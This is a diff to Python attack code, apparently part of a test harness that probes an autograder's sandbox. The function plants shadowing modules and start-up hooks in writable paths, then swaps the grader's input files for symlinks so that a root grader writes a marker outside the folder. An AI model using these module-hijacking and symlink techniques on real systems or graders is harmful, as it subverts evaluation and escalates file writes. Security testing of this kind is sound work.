@@ -216,7 +216,8 @@ posix._exit(0)
 
 def attack_planted(targets):
     """Plant a module under every name this process imported, and the start-up hooks', everywhere
-    this user may write, then end the process: the grader starts it again past this step."""
+    this user may write, swap the files the grader handed it for a link and a folder, then end the
+    process: the grader starts it again past this step."""
     names = {{name.split(".")[0] for name in sys.modules}} - set(sys.builtin_module_names) - {{"__main__", "__student__"}}
     names |= {{"sitecustomize", "usercustomize", "mnist_kit", "mnist_data", "runpy", "argparse", "numpy", "sklearn"}}
     marker = targets["marker"]
@@ -238,6 +239,17 @@ def attack_planted(targets):
                     file.write(code)
             except OSError:
                 pass
+    # The files the grader handed this run: the restart must be handed its own again. A link
+    # followed by the grader (root) would write the marker outside this folder.
+    for name, swap in (("submission.ipynb", "link"), ("challenge.json", "link"), ("challenge.npz", "folder")):
+        try:
+            os.remove(name)
+            if swap == "link":
+                os.symlink(os.path.join(targets["out"], marker), name)
+            else:
+                os.makedirs(os.path.join(name, "inside"))
+        except OSError:
+            pass
     sys.stdout.flush()
     os._exit(1)
 '''
